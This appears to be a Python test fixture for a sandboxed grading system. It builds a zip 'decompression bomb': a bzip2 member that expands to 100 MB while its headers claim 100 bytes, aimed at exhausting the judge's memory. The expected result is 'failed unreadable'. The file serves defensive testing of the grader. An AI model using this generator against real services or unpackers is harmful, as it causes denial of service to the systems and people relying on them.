"""A hundred megabytes in a few bytes of bzip2, which unpacks all it is given, asked for it or not.

goal: the judge's memory, past a reader that asks for a few bytes at a time
out: * failed unreadable
holds: namespaces landlock seccomp process
"""

import bz2
import struct
import zipfile
from pathlib import Path

SIZE, SAID = 100 << 20, 100
NAME = b"vectors.py"
LOCAL = struct.Struct("<IHHHHHIIIHH")
CENTRAL = struct.Struct("<IHHHHHHIIIHHHHHII")
END = struct.Struct("<IHHHHIIH")


def build(folder: Path) -> Path:
    data = bz2.compress(bytes(SIZE))
    facts = (0, zipfile.ZIP_BZIP2, 0, 33, 0, len(data), SAID, len(NAME), 0)
    member = LOCAL.pack(0x04034B50, 46, *facts) + NAME + data
    index = CENTRAL.pack(0x02014B50, 46, 46, *facts, 0, 0, 0, 0, 0) + NAME
    path = folder / "package-packed-in-other-ways.zip"
    path.write_bytes(member + index + END.pack(0x06054B50, 0, 0, 1, 1, len(index), len(member), 0))
    return path
